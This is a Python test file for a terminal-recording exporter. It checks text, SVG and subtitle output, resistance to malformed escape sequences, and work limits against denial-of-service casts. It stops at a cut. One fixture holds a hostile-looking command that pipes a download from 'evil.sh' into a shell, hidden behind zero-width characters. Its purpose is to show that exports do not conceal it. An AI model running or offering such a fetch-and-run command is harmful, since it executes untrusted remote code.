"""The terminal model's reproductions (issue 20's exporter items) and the subtitles a screen
reader user can follow (issue 19): each through the `embed` command, as a user runs it."""

from __future__ import annotations

import json
import re
import resource
import subprocess
import sys
import time
import unicodedata
from collections import deque
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from genact_cast.asciicast import OUTPUT, Event, Header
from genact_cast.publish.screens import Clip, LimitError, Timeline, last_screen
from genact_cast.publish.vtt import render_vtt, session_name
from tests import svg_model

ROOT = Path(__file__).resolve().parent.parent
SCREENS = ROOT / "tests" / "data" / "screens"


def write_cast(path: Path, width: int, height: int, events: list[list[Any]]) -> Path:
    lines = [json.dumps({"version": 2, "width": width, "height": height})]
    lines += [json.dumps(event) for event in events]
    path.write_text("\n".join(lines) + "\n", "utf-8")
    return path


def embed(
    *args: str | Path, timeout: float = 120
) -> tuple[subprocess.CompletedProcess[str], float]:
    """The export's result and the CPU time it took (user and system: a loaded CI machine
    stretches the wall clock, which bounded these tests past their limits)."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    result = subprocess.run(
        [sys.executable, "-m", "genact_cast", "embed", *map(str, args)],
        capture_output=True, text=True, timeout=timeout, cwd=ROOT,
    )  # fmt: skip
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    took = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    return result, took


def one_line_or_success(result: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in result.stderr
    assert result.returncode in (0, 1), result.stderr
    if result.returncode:
        assert result.stderr.count("\n") == 1, result.stderr


# --- Exports hide what the terminal shows ----------------------------------------------


MARKS = ["\u200b", "\u200d", "\ufe0f", "\u200e", "\u2066"]  # ZWSP, ZWJ, VS16, LRM, LRI


def test_a_zero_width_character_does_not_end_the_line_in_text_or_svg(tmp_path: Path) -> None:
    """pyte stopped the run at the mark: `echo safe` was all the exports showed."""
    lines = [f"echo safe{mark}; curl evil.sh | sh" for mark in MARKS]
    cast = write_cast(tmp_path / "z.cast", 60, 6, [[0.1, "o", "\r\n".join(lines)]])
    result, _ = embed(cast, "--text", tmp_path / "z.txt")
    assert result.returncode == 0, result.stderr
    kept = ["" if unicodedata.category(m) == "Cf" else m for m in MARKS]  # format chars dropped
    expected = [f"echo safe{k}; curl evil.sh | sh" for k in kept]
    assert (tmp_path / "z.txt").read_text("utf-8").splitlines() == expected
    result, _ = embed(cast, "--svg", tmp_path / "z.svg")
    assert result.returncode == 0, result.stderr
    picture = svg_model.read((tmp_path / "z.svg").read_text("utf-8"))
    shown = picture.screens_text(len(picture.screens) - 1)
    # (format characters dropped: a span holding an isolate is written in the order the
    # player shows it, under an LRO of its own, a718c5b)
    visible = ["".join(c for c in row if unicodedata.category(c) != "Cf") for row in shown]
    assert all(row.endswith("; curl evil.sh | sh") for row in visible[: len(MARKS)]), visible


PAYLOADS = {
    "sixel": '\x1bP0;1;0q"1;1;30;30#0;2;0;0;0#0!30~-!30~\x1b\\',
    "kitty graphics": "\x1b_Ga=T,f=24,s=1,v=1;AAAA\x1b\\",
    "DECRQSS": "\x1bP$qm\x1b\\",
    "PM": "\x1b^private message\x1b\\",
    "SOS": "\x1bXstart of string\x1b\\",
    "C1 DCS": "\x90q#1;2;3\x9c",
}


def test_dcs_apc_pm_and_sos_payloads_are_dropped_as_the_player_drops_them(
    tmp_path: Path,
) -> None:
    events = [[0.1 * (i + 1), "o", f"{name}:{data}after\r\n"] for i, (name, data) in
              enumerate(PAYLOADS.items())]  # fmt: skip
    cast = write_cast(tmp_path / "p.cast", 40, 8, events)
    for option, out in (("--text", "p.txt"), ("--vtt", "p.vtt")):
        result, _ = embed(cast, option, tmp_path / out)
        assert result.returncode == 0, result.stderr
        written = (tmp_path / out).read_text("utf-8")
        for name in PAYLOADS:
            assert f"{name}:after" in written, (name, written)


# --- Tracebacks in the raster, text and VTT exporters ----------------------------------

MALFORMED = [
    "\x1b[;@", "\x1b[1;2A", "\x1b[3K", "\x1b[4J", "\x1b[?m", "\x1b[?1;2c",
    "\x1b[" + "9" * 5000 + "m", "\x1b[" + "1;" * 3000 + "H", "\x1b]" + "x" * 9000,
    "\x1b[?1049h\x1b[?1049h\x1b[?1049l\x1b[?1049l", "\x1b[99;99r\x1b[0;0r", "\x9b5B",
]  # fmt: skip


@pytest.mark.parametrize("option", ["--text", "--vtt", "--png"])
def test_malformed_sequences_never_end_an_export_in_a_traceback(
    option: str, tmp_path: Path
) -> None:
    events = [[0.1 * (i + 1), "o", f"a{data}b"] for i, data in enumerate(MALFORMED)]
    cast = write_cast(tmp_path / "m.cast", 30, 6, events)
    out = tmp_path / f"m{option.replace('--', '.')}"
    result, _ = embed(cast, option, out, *(("--size", "8") if option == "--png" else ()))
    assert result.returncode == 0, result.stderr
    assert out.stat().st_size > 0


# --- Quadratic or unbounded work -------------------------------------------------------


def test_decaln_repeated_is_bounded_and_names_its_limit(tmp_path: Path) -> None:
    """1.6 KB of `ESC # 8` on a 500x400 terminal took pyte 31 s (each fills 200,000 cells)."""
    events = [[0.04 * i, "o", "\x1b#8"] for i in range(1, 80)]
    cast = write_cast(tmp_path / "e.cast", 500, 400, events)
    assert cast.stat().st_size > 1600
    result, took = embed(cast, "--text", tmp_path / "e.txt")
    one_line_or_success(result)
    assert took < 15
    if result.returncode:
        assert "more work than its output allows" in result.stderr
    else:
        assert (tmp_path / "e.txt").read_text("utf-8").startswith("E" * 500)


@pytest.mark.parametrize(
    ("size", "events"),
    [  # each fine on its own; many of them cost far more than their bytes (issue 20, run 3)
        ((400, 250), [Event(1000 * i, OUTPUT, "a\x1b[1000000000b") for i in range(80)]),
        ((400, 250), [Event(0, OUTPUT, "a\x1b[1000000000b" * 80)]),  # within one event
        ((200, 1000), [Event(0, OUTPUT, "\n" * 200_000)]),  # each scroll moves every row
        # review-attack8 findings 1-2: erasures in the default pen and screen switches
        ((400, 400), [Event(0, OUTPUT, "x" * 160_000), Event(1, OUTPUT, "\x1b[2J" * 100_000)]),
        ((400, 400), [Event(0, OUTPUT, "\x1b[K\x1b[1K\x1b[2K\x1b[J\x1b[1J" * 20_000)]),
        ((400, 400), [Event(0, OUTPUT, "\x1b[?1049h\x1b[?1049l" * 20_000)]),
        ((400, 400), [Event(0, OUTPUT, "\x1b[?47h\x1b[?47l" * 20_000)]),
        # review-attack11 finding 1: IL/SU (and DL/SD) of huge counts make a region of lines
        ((1000, 200), [Event(i * 1000, OUTPUT, "\x1b[999L" * 4000) for i in range(20)]),
        ((1000, 200), [Event(i * 1000, OUTPUT, "\x1b[999S" * 4000) for i in range(20)]),
        ((1000, 200), [Event(i * 1000, OUTPUT, "\x1b[999M\x1b[999T" * 2000) for i in range(20)]),
    ],
    ids=[
        "REP-events",
        "REP-one-event",
        "LF-one-event",
        "ED",
        "EL-ED",
        "1049",
        "47",
        "IL",
        "SU",
        "DL-SD",
    ],
)
def test_repeats_and_scrolls_count_toward_the_work_limit(
    size: tuple[int, int], events: list[Event]
) -> None:
    """REP (`CSI n b`) and scrolls were not counted: 95 KB of REPs ran for minutes.

    The limit is checked at each operation, so it fires inside one long event too.
    """
    # CPU time, not wall time: a loaded CI machine stretched the wall clock past 5 s.
    start = time.process_time()
    with pytest.raises(LimitError, match="more work than its output allows"):
        for _ in Timeline(Header(*size), events):
            pass
    assert time.process_time() - start < 5


@pytest.mark.parametrize(("cols", "rows"), [(100, 200), (200, 1000)])
def test_a_build_log_in_a_tall_terminal_is_within_the_work_limit(cols: int, rows: int) -> None:
    """review-attack10 F6: each line feed re-read every row of the screen for the next
    screen (rows x the line's width of work), so a log of 2,000 short lines in 100x200 was
    refused; its rows now move with their lines, and a scroll costs what moving them does."""
    events = [Event(100_000 + i * 33_333, OUTPUT, f"  CC      src/file_{i:05d}.o\r\n")
              for i in range(3000)]  # fmt: skip
    start = time.process_time()
    screen = deque(Timeline(Header(cols, rows), events), maxlen=1)[0]
    assert time.process_time() - start < 10  # CPU time: about 1 s on a loaded machine
    last = ["".join(char for char, _ in row) for row in screen.rows]
    assert last[rows - 2] == "  CC      src/file_02999.o"
    assert last[rows - 3] == "  CC      src/file_02998.o"


@pytest.mark.parametrize("final", ["I", "Z"])
def test_tab_moves_of_huge_counts_are_bounded(final: str) -> None:
    """review-attack11 finding A: 12 KB of `ESC[9999I` at 1000 columns took 31 s to export
    (each count a loop of pyte's `tab`, sorting the stops each time); CBT 16 s."""
    events = [Event(1000 * i, OUTPUT, f"\x1b[9999{final}" * 1000) for i in range(40)]
    start = time.process_time()
    for _ in Timeline(Header(1000, 200), events):
        pass
    assert time.process_time() - start < 3  # CPU time


def test_tab_moves_land_where_repeated_tabs_do() -> None:
    from genact_cast.publish.terminal import Terminal
    from genact_cast.publish.vtparse import Parser

    term = Terminal(100, 5)
    parser = Parser(term)
    for start, count in [(0, 1), (0, 3), (5, 2), (8, 1), (95, 1), (50, 99), (99, 1)]:
        parser.feed(f"\x1b[1;{start + 1}H\x1b[{count}I")
        stops = [s for s in range(8, 100, 8) if s > start]
        assert term.cursor.x == (stops[count - 1] if count <= len(stops) else 99)
        parser.feed(f"\x1b[1;{start + 1}H\x1b[{count}Z")
        back = [s for s in range(0, 100, 8) if s < start][::-1]
        assert term.cursor.x == (back[count - 1] if count <= len(back) else 0)
    parser.feed("\x1b[1;1H\tx\tx")
    assert term.cursor.x == 17


def test_runs_of_tabs_cost_what_one_move_does() -> None:
    """review-attack12 F1: each tab sorted the tab stops again (O(columns), uncharged):
    1,000,000 tabs at 1000 columns took 23 s to `--text`, 3.4 s of CPU in the model."""
    events = [Event(1000 * i, OUTPUT, "\x1b[1;1H" + ("\t" * 1000 + "\r") * 50) for i in range(20)]
    start = time.process_time()
    for _ in Timeline(Header(1000, 200), events):
        pass
    assert time.process_time() - start < 1  # CPU time: about 0.01 s


_TAB_OPS = st.sampled_from(["\t", "\t\t\t", "\x1bH", "\x1b[g", "\x1b[3g", "\x1b[2I", "\x1b[Z"])


@given(ops=st.lists(st.one_of(_TAB_OPS, st.integers(1, 60)), max_size=40))
def test_tabs_land_where_the_stops_say(ops: list[str | int]) -> None:
    """Runs of tabs moved at once and the stops sorted once must land where tabs one at a
    time land, whatever sets and clears stops in between."""
    from genact_cast.publish.terminal import Terminal
    from genact_cast.publish.vtparse import Parser

    cols = 60
    term = Terminal(cols, 5)
    parser = Parser(term)
    stops, x = set(range(8, cols, 8)), 0

    def forward(x: int, count: int) -> int:
        for _ in range(count):
            x = min([s for s in stops if s > x], default=cols - 1)
        return x

    for op in ops:
        if isinstance(op, int):
            parser.feed(f"\x1b[1;{op}H")
            x = op - 1
        elif op == "\x1bH":
            stops.add(x)
        elif op == "\x1b[g":
            stops.discard(x)
        elif op == "\x1b[3g":
            stops.clear()
        elif op == "\x1b[Z":
            x = max([s for s in stops if s < x], default=0)
        else:
            x = forward(x, 2 if op == "\x1b[2I" else len(op))
        if isinstance(op, str):
            parser.feed(op)
        assert term.cursor.x == x, ops


def test_40000_combining_marks_on_one_cell_are_linear(tmp_path: Path) -> None:
    """pyte normalized the growing cluster again for each mark: 20 s for 80 KB."""
    cast = write_cast(tmp_path / "c.cast", 80, 24, [[0.1, "o", "e" + "\u0301" * 40_000]])
    result, took = embed(cast, "--text", tmp_path / "c.txt")
    assert result.returncode == 0, result.stderr
    assert took < 10


@pytest.mark.slow  # two exports of 5,000 resizes: about 20 s on a loaded machine
def test_5000_resizes_are_bounded_in_text_and_svg(tmp_path: Path) -> None:
    """Each resize re-read the whole screen in both exporters: 20 s for 330 KB."""
    events: list[list[Any]] = [[0.0, "o", "hello world " * 100]]
    events += [[0.001 * i, "r", f"{40 + i % 50}x{10 + i % 20}"] for i in range(1, 5001)]
    cast = write_cast(tmp_path / "r.cast", 80, 24, events)
    for option, out in (("--text", "r.txt"), ("--svg", "r.svg")):
        result, took = embed(cast, option, tmp_path / out)
        one_line_or_success(result)
        assert took < 30  # (20 s on the old main, on the attack run's machine)


# --- Subtitles and text a screen reader user can follow --------------------------------


def cues(vtt: str) -> list[tuple[str, list[str]]]:
    blocks = [b.splitlines() for b in vtt.split("\n\n")[1:] if b.strip()]
    return [(b[0].split(" --> ")[0], b[1:]) for b in blocks]


def test_a_full_screen_session_is_one_cue_named_by_the_typed_command(tmp_path: Path) -> None:
    out = tmp_path / "alt.vtt"
    result, _ = embed(SCREENS / "altscreen.cast", "--vtt", out)
    assert result.returncode == 0, result.stderr
    found = cues(out.read_text("utf-8"))
    texts = [line for _, lines in found for line in lines]
    assert "user@host:~$ vim notes.txt" in texts  # the typed command is kept
    assert ("00:00:01.000", ["[vim]"]) in found  # the session, when it started
    assert not any("VIM edit" in t or t == "~" for t in texts)  # not its screen dump
    assert texts.count("user@host:~$ echo before") == 1  # restored lines not repeated


@pytest.mark.parametrize(
    ("command", "recorded", "name"),
    [
        ("$ vim notes.txt", None, "vim"),
        ("user@host:~/src$ sudo htop -d 5", "bash", "htop"),
        ("# LESS=-R /usr/bin/less file", None, "less"),
        ("", "vim long.txt", "vim"),  # `asciinema rec -c 'vim long.txt'`: nothing typed
        ("", "/bin/zsh -l", "full-screen program"),  # a shell names no session
        ("", None, "full-screen program"),
    ],
)
def test_a_session_is_named_by_its_program_or_the_recorded_command(
    command: str, recorded: str | None, name: str
) -> None:
    assert session_name(command, "", recorded) == name


def test_output_under_a_tenth_of_a_second_apart_shares_a_cue() -> None:
    events = [
        Event(0, OUTPUT, "one\r\n"),
        Event(50_000, OUTPUT, "two\r\n"),
        Event(300_000, OUTPUT, "three\r\n"),
    ]
    found = cues(render_vtt(Timeline(Header(20, 5), events)))
    assert [lines for _, lines in found] == [["one", "two"], ["three"]]


def test_private_use_characters_keep_their_column_in_the_text(tmp_path: Path) -> None:
    line = "\x1b[44m main \x1b[34;49m\ue0b0\x1b[m ~/src \ue0b1 x"
    cast = write_cast(tmp_path / "pl.cast", 40, 2, [[0.1, "o", line]])
    result, _ = embed(cast, "--text", tmp_path / "pl.txt")
    assert result.returncode == 0, result.stderr
    text = (tmp_path / "pl.txt").read_text("utf-8").splitlines()[0]
    assert text == " main   ~/src   x"  # a blank cell each, as the player's text layer
    assert re.sub(r"\x1b\[[0-9;]*m", "", line).index("x") == text.index("x")


def session_cues(chunks: list[str]) -> list[str]:
    events = [Event(200_000 * i, OUTPUT, chunk) for i, chunk in enumerate(chunks)]
    vtt = render_vtt(Timeline(Header(40, 6), events))
    return [line for _, lines in cues(vtt) for line in lines if line.startswith("[")]


def test_a_session_is_named_by_what_was_typed_after_any_prompt() -> None:
    """fish's prompt ends in `)`, and its grey suggestion is redrawn away on Enter."""
    typed = ["~/src (main=) ", "v", "\x1b[90mim notes.txt\x1b[m\x1b[12D", "im", "\x1b[K\r\n"]
    alternate = ["\x1b[?1049h\x1b[H1 first line\r\n~", "\x1b[?1049l"]
    assert session_cues([*typed, *alternate]) == ["[vim]"]


def test_a_command_continued_over_lines_names_the_session_by_its_first_line() -> None:
    chunks = ["$ ", "torchrun --nnodes=4 \\\r\n", "> ", "--rdzv x train.py\r\n",
              "\x1b[?1049h\x1b[Hpanes", "\x1b[?1049l"]  # fmt: skip
    assert session_cues(chunks) == ["[torchrun]"]


def test_a_full_screen_program_from_the_first_byte_is_one_session() -> None:
    """Found by fuzzing: no shell screen before it, no command row (an IndexError); named
    neutrally, not by its first line (review-exports2 items 4 and 15: a file's first line
    named vim's session)."""
    assert session_cues(["\x1b[?1049h", "top line"]) == ["[full-screen program]"]


def test_a_session_with_no_command_typed_is_named_by_the_casts_command() -> None:
    """`asciinema rec -c 'vim long.txt'`: the header's command names it; a cast that ends
    inside it tells the shell's lines once (review-exports2 item 5)."""
    events = [
        Event(200_000, OUTPUT, "starting the editor\r\nfile1 file2\r\n"),
        Event(600_000, OUTPUT, "\x1b[?1049h\x1b[H\x1b[2Jline 1 of a long file: =\r\n~"),
        Event(1_200_000, OUTPUT, "\x1b[5;1Hbottom"),
    ]
    vtt = render_vtt(Timeline(Header(30, 8, command="vim long.txt"), events))
    assert cues(vtt) == [("00:00:00.200", ["starting the editor", "file1 file2"]),
                         ("00:00:00.600", ["[vim]"])]  # fmt: skip


def test_a_command_echoed_with_the_switch_names_its_session_in_order(tmp_path: Path) -> None:
    """Pasted or scripted typing: the echo of `less notes.txt` and `?1049h` in one event."""
    out = tmp_path / "pasted.vtt"
    result, _ = embed(SCREENS / "subtitles_pasted.cast", "--vtt", out)
    assert result.returncode == 0, result.stderr
    found = cues(out.read_text("utf-8"))
    assert found == [  # each command from when it was typed (pasted with the switch)
        ("00:00:01.000", ["$ less notes.txt", "[less]"]),
        ("00:00:04.000", ["$ htop", "[htop]"]),
    ]


def test_lines_moved_by_resizes_are_each_told_once_when_they_appeared(tmp_path: Path) -> None:
    """80x24 -> 60x15 (a line rewraps, one goes to the scrollback) -> 100x30 (the scrollback
    comes back): the player shows 7..20 and the prompt at 2 s, and nothing new at 3.5 s."""
    out = tmp_path / "resized.vtt"
    result, _ = embed(SCREENS / "subtitles_resized.cast", "--vtt", out)
    assert result.returncode == 0, result.stderr
    found = cues(out.read_text("utf-8"))
    texts = [line for _, lines in found for line in lines]
    numbers = [str(n) for n in range(1, 21)]
    assert [t for t in texts if t.isdigit()] == numbers  # each once, in order
    assert texts.count("$ echo x") == 1
    assert texts.count("$ seq 1 20") == 1
    assert [t for t in texts if "quick brown" in t] == [  # one line, though wrapped at 60
        "the quick brown fox jumps over the lazy dog and keeps on running far"
    ]
    # (the command too, from when it was typed: it scrolled away in the event that typed
    # it, and was told from the prompt's 0.7 s before b80f9d7, review-exports17 item 12)
    at_two = dict(found)["00:00:02.000"]
    assert at_two[:21] == ["$ seq 1 20", *numbers]
    assert "00:00:03.500" not in dict(found)


def test_a_session_started_with_the_cursor_in_old_output_is_named_neutrally(
    tmp_path: Path,
) -> None:
    """?1047 leaves the cursor where the program left it, inside `$ after 1049`, which
    nobody typed: the ?47 session is not named by it (nor by what it showed)."""
    out = tmp_path / "alt47.vtt"
    result, _ = embed(SCREENS / "subtitles_alt47.cast", "--vtt", out)
    assert result.returncode == 0, result.stderr
    sessions = [t for _, lines in cues(out.read_text("utf-8")) for t in lines if t[:1] == "["]
    assert sessions == ["[full-screen program]"] * 3


def test_a_line_the_terminal_wrapped_is_one_subtitle_line() -> None:
    """A line written as one and wrapped by a 20-column terminal: one line of its cue,
    whether it is taken on the final screen or as it scrolls away (a wrap on a space
    keeps the space)."""
    long = "word " * 6 + "end of a long line"
    events = [Event(0, OUTPUT, f"$ cat notes\r\n{long}\r\nnext\r\n")]
    found = [
        line for _, lines in cues(render_vtt(Timeline(Header(20, 6), events))) for line in lines
    ]
    assert long in found
    assert "next" in found
    more = [*events, Event(1_000_000, OUTPUT, "".join(f"out {n}\r\n" for n in range(8)))]
    found = [line for _, lines in cues(render_vtt(Timeline(Header(20, 6), more))) for line in lines]
    assert long in found
    assert not any(line.startswith("ong") for line in found)


def test_a_typed_command_is_timed_from_its_first_character_not_its_prompt() -> None:
    events = [
        Event(0, OUTPUT, "user@host:~$ "),
        Event(2_000_000, OUTPUT, "l"),
        Event(2_150_000, OUTPUT, "s"),
        Event(2_600_000, OUTPUT, "\r\nfile.txt\r\n"),
    ]
    found = cues(render_vtt(Timeline(Header(30, 5), events)))
    assert ("00:00:02.000", ["user@host:~$ ls"]) in found


def test_the_text_at_a_moment_keeps_the_blank_rows_above_its_text(tmp_path: Path) -> None:
    """As the player shows the screen: text on the fifth row is on the fifth line, with
    --at as without it (the README's `--text`)."""
    cast = tmp_path / "low.cast"
    cast.write_text(
        json.dumps({"version": 2, "width": 20, "height": 6})
        + "\n"
        + json.dumps([0.5, "o", "top\x1b[2J\x1b[5;3Hlow text\r\n"])
        + "\n",
        "utf-8",
    )
    from genact_cast.publish.exports import export

    for at in (None, 1.0):
        out = tmp_path / f"low-{at}.txt"
        export(str(cast), out, "text", overwrite=True, clip=Clip(), at=at)
        assert out.read_text("utf-8") == "\n\n\n\n  low text\n"


def cue_spans(vtt: str) -> list[tuple[str, str, list[str]]]:
    blocks = [b.splitlines() for b in vtt.split("\n\n")[1:] if b.strip()]
    return [(*b[0].split(" --> "), b[1:]) for b in blocks]  # type: ignore[misc]


def test_lines_a_clear_erases_are_told_once_ending_at_the_clear(tmp_path: Path) -> None:
    """A real shell recorded by asciinema (scripts/record_subtitles_clear.py): `clear`,
    `\\e[2K` and `\\ec` erase lines a viewer saw; each is a cue, once, ending at its
    erasure. The `watch`-like loop's two lines, cleared and redrawn, are told once, but
    for the count, told as first drawn, then as last drawn (review-exports11 item 3)."""
    out = tmp_path / "clear.vtt"
    result, _ = embed(SCREENS / "subtitles_clear.cast", "--vtt", out)
    assert result.returncode == 0, result.stderr
    spans = cue_spans(out.read_text("utf-8"))
    texts = [line for _, _, lines in spans for line in lines]
    assert texts == [
        "$ ls",
        "alpha.txt  beta.txt  gamma.txt  session",
        "$ clear",
        "$ echo after",
        "after",
        "$ printf 'one\\ntwo\\n'; sleep 0.4; clear; echo three",
        "one",
        "two",
        "three",
        '$ for i in 1 2 3 4; do clear; echo "Every 0.3s: date"; echo "count $i"; sleep 0.3; done',
        "Every 0.3s: date",
        "count 1",
        "count 4",
        "$ printf 'gone soon\\n'; sleep 0.4; printf '\\033[1A\\033[2K'; echo kept",
        "gone soon",
        "kept",
        "$ echo last; sleep 0.4; printf '\\033c'; echo reset",
        "last",
        "reset",
        "$ exit",
        "exit",
    ]
    by_text = {lines[0]: (start, end) for start, end, lines in spans}
    # `clear` ran at 1.06 s (its echo at 1.058 s on the same screen); typing resumed at 1.53 s
    assert by_text["$ clear"] == ("00:00:00.762", "00:00:01.056")
    assert by_text["gone soon"][1] == "00:00:20.747"  # when `\e[2K` blanked it


def erased_cues(chunks: list[str], cols: int = 30, rows: int = 6) -> list[str]:
    events = [Event(400_000 * i, OUTPUT, chunk) for i, chunk in enumerate(chunks)]
    vtt = render_vtt(Timeline(Header(cols, rows), events))
    return [line for _, lines in cues(vtt) for line in lines]


@pytest.mark.parametrize(
    ("chunks", "told"),
    [
        # `\e[J` below the cursor, `\e[1J` above it, `\e[K` from the start of a line
        (["$ make\r\nbuild ok\r\ntests ok\r\n", "\x1b[2;1H\x1b[J", "$ "],
         ["$ make", "build ok", "tests ok"]),
        (["header\r\nsecond\r\nthird", "\x1b[1J", "\r\nfresh"],
         ["header", "second", "third", "fresh"]),
        (["warming up\r\n", "\x1b[1A\x1b[K", "ready\r\n"], ["warming up", "ready"]),
        # lines written and cleared between two screens, some scrolled away, some erased:
        # all told, in the order they were written, before what follows the clear
        (["$ seq 1 8\r\n", "".join(f"{n}\r\n" for n in range(1, 9)) + "\x1b[H\x1b[2J\x1b[3J"
          "after\r\n$ "], ["$ seq 1 8", *map(str, range(1, 9)), "after"]),
        # a dashboard cleared and redrawn with new numbers, a progress bar moved down by a
        # log line, a live block redrawn under new lines: each row told as the player
        # shows it, its first value, then the one it settles on (review-exports11 item 3)
        (["GPU0  util 91%  mem 60 GiB\r\nGPU1  util 88%  mem 61 GiB",
          "\x1b[H\x1b[2JGPU0  util 93%  mem 60 GiB\r\nGPU1  util 87%  mem 61 GiB"],
         ["GPU0  util 91%  mem 60 GiB", "GPU1  util 88%  mem 61 GiB",
          "GPU0  util 93%  mem 60 GiB", "GPU1  util 87%  mem 61 GiB"]),
        (["  3%|#         | 3/100", "\r\x1b[Kstep 3 loss 2.31\r\n  4%|#         | 4/100",
          "\r\x1b[Kstep 4 loss 2.27\r\n  5%|#         | 5/100"],
         ["step 3 loss 2.31", "step 4 loss 2.27", "5%|#         | 5/100"]),
        # a dashboard whose redraw after a clear reaches two screens (a slow read)
        (["ID  util 91%\r\nA   mem 60 GiB\r\nB   mem 61 GiB",
          "\x1b[H\x1b[2JID  util 93%", "\r\nA   mem 62 GiB\r\nB   mem 63 GiB"],
         ["ID  util 91%", "ID  util 93%", "A   mem 62 GiB", "B   mem 63 GiB"]),
        (["Step 10 | loss 2.41\r\nSpeed 65,892 tok/s\r\n",
          "\x1b[2A\x1b[Jlog: saved ckpt\r\nStep 20 | loss 2.37\r\nSpeed 66,091 tok/s\r\n"],
         ["log: saved ckpt", "Step 20 | loss 2.37", "Speed 66,091 tok/s"]),
    ],
)  # fmt: skip
def test_an_erased_line_is_told_unless_its_row_is_redrawn(
    chunks: list[str], told: list[str]
) -> None:
    assert [line.strip() for line in erased_cues(chunks)] == told


def test_a_clear_ends_the_wrap_of_the_lines_it_erases() -> None:
    """avt's ED 2 puts blank lines in place (`Buffer::clear` at v0.16.0), so a line later
    written on a row that held a wrapped one is not joined to the next."""
    chunks = ["x" * 35 + "\r\n", "\x1b[H\x1b[2Jshort\r\nnext\r\n"]
    assert erased_cues(chunks) == ["x" * 35, "short", "next"]


# The review's minimal casts (review-exports2 item 1) and what asciinema-player 3.18.0
# showed for them in Chromium at 1.8 s: the primary screen left for a full-screen program
# and restored after a resize is reflowed around the cursor it had when it was left.
BEFORE_VIM = "L1\r\nL2\r\nL3\r\nL4\r\nL5\r\nL6\r\nL7\r\nL8\r\nL9\r\nL10\r\nL11\r\nL12\r\n$ vim"
SHRUNK_1049 = ["L10", "L11", "L12", "$ vim", "$"]
SHRUNK_47 = ["L10$", "L11", "L12", "$ vim"]  # no cursor restored: "$ " where VIM ended
GROWN_1049 = [*(f"L{n}" for n in range(1, 13)), "$ vim", "$"]


@pytest.mark.parametrize(
    ("mode", "size", "shown"),
    [
        ("1049", "30x5", SHRUNK_1049),
        ("1047", "30x5", SHRUNK_47),
        ("47", "30x5", SHRUNK_47),
        ("1049", "30x14", GROWN_1049),
    ],
)
def test_a_resize_inside_the_alternate_screen_restores_what_the_player_shows(
    tmp_path: Path, mode: str, size: str, shown: list[str]
) -> None:
    from genact_cast.publish.exports import export

    cast = write_cast(
        tmp_path / "altresize.cast",
        30,
        10,
        [
            [0.2, "o", BEFORE_VIM],
            [0.5, "o", f"\r\n\x1b[?{mode}h\x1b[H\x1b[2JVIM"],
            [1.0, "r", size],
            [1.5, "o", f"\x1b[?{mode}l$ "],
        ],
    )
    out = tmp_path / "at.txt"
    export(str(cast), out, "text", overwrite=True, clip=Clip(), at=1.8)
    assert out.read_text("utf-8").splitlines() == shown


PROMPTS = [  # the prompts of real shells, as they draw them
    # powerline (the reviewer's PS1)
    "\x1b[30;44m ~/proj \x1b[34;42m\ue0b0\x1b[30;42m \ue0a0 main \x1b[32;49m\ue0b0\x1b[0m ",
    "\x1b[1;32m❯\x1b[0m ",  # starship, pure
    "\x1b[1;32m➜\x1b[0m  \x1b[36mproj\x1b[0m \x1b[34mgit:(\x1b[31mmain\x1b[34m)\x1b[0m ",
    "\x1b[01;32muser@host\x1b[00m:\x1b[01;34m~/proj\x1b[00m$ ",  # Debian's bash
    "host% ",  # zsh
    "root@host:/# ",
    "\x1b[34m~/proj\x1b[0m on \x1b[35m\ue0a0 main\x1b[0m\r\n\x1b[32m❯\x1b[0m ",  # two lines
    "\x1b[32m❯\x1b[0m \x1b[s\x1b[28G\x1b[90m~/proj 12:00\x1b[0m\x1b[u",  # a right prompt
    # zsh 5.9's RPROMPT='%F{green}[%?]%f 12:00' at 40 columns, as it writes it (the bytes of
    # tests/data/screens/zsh_rprompt.cast at 60 columns: 46C and 55D there)
    "\r\x1b[0m\x1b[27m\x1b[24m\x1b[J~ % \x1b[K\x1b[26C\x1b[32m[0]\x1b[39m 12:00\x1b[35D",
]


def test_a_right_prompt_is_kept_out_of_the_typed_commands_cues() -> None:
    """zsh recorded here with a right prompt (`RPROMPT='%F{green}[%?]%f 12:00'`, asciinema
    2.4 in a pty): each command's cue is the prompt and the command, not the exit status
    and clock zsh keeps at the row's right edge; a command typed into the right prompt
    (which zsh then takes away) is whole."""
    from genact_cast.sources import open_cast

    with open_cast(str(SCREENS / "zsh_rprompt.cast")) as reader:
        timeline = Timeline(reader.header, list(reader.events()))
    lines = [" ".join(text) for _, text in cues(render_vtt(timeline))]
    assert lines == [
        "~ % echo hello world",
        "hello world",
        "~ % false",
        "~ % echo a long command that runs into the right prompt xyz",
        "a long command that runs into the right prompt xyz",
        "~ % exit",
    ]


@pytest.mark.parametrize("shown", PROMPTS)
def test_a_command_typed_after_any_prompt_is_its_own_cue_from_its_first_key(shown: str) -> None:
    """The prompt is known by the cursor waiting after it, whatever its characters
    (review-exports2 item 4: a powerline prompt's U+E0B0 hid every typed command)."""
    typed = [Event(3_000_000 + 100_000 * i, OUTPUT, key) for i, key in enumerate("ls -la")]
    events = [
        Event(30_000, OUTPUT, shown),
        *typed,
        Event(4_000_000, OUTPUT, "\r\n"),
        Event(4_100_000, OUTPUT, "total 0\r\nfile\r\n" + shown),
        *[Event(7_000_000 + 100_000 * i, OUTPUT, key) for i, key in enumerate("vim f")],
        Event(8_000_000, OUTPUT, "\r\n\x1b[?1049h\x1b[H\x1b[2J= notes =\r\n~"),
        Event(9_000_000, OUTPUT, "\x1b[?1049l"),
    ]
    found = cues(render_vtt(Timeline(Header(40, 8), events)))
    starts = dict(found)
    # (a two-line prompt's first line is a line of output, told when it appears)
    assert [start for start, lines in found if "ls" in " ".join(lines)] == ["00:00:03.000"]
    assert " ls -la" in starts["00:00:03.000"][-1]
    assert starts["00:00:03.000"][-1].endswith(" ls -la")  # (not the right prompt after it)
    assert starts["00:00:04.100"][:2] == ["total 0", "file"]
    assert not any("vim" in line for line in starts["00:00:04.100"])
    assert "vim f" in starts["00:00:07.000"][-1]
    assert "[vim]" in [line for _, lines in found for line in lines]
    texts = "".join(line for _, lines in found for line in lines)
    assert not {c for c in texts if unicodedata.category(c) == "Co"} | ({"\ufffd"} & set(texts))


def test_emoji_sequences_keep_their_joiners_in_text_and_subtitles(tmp_path: Path) -> None:
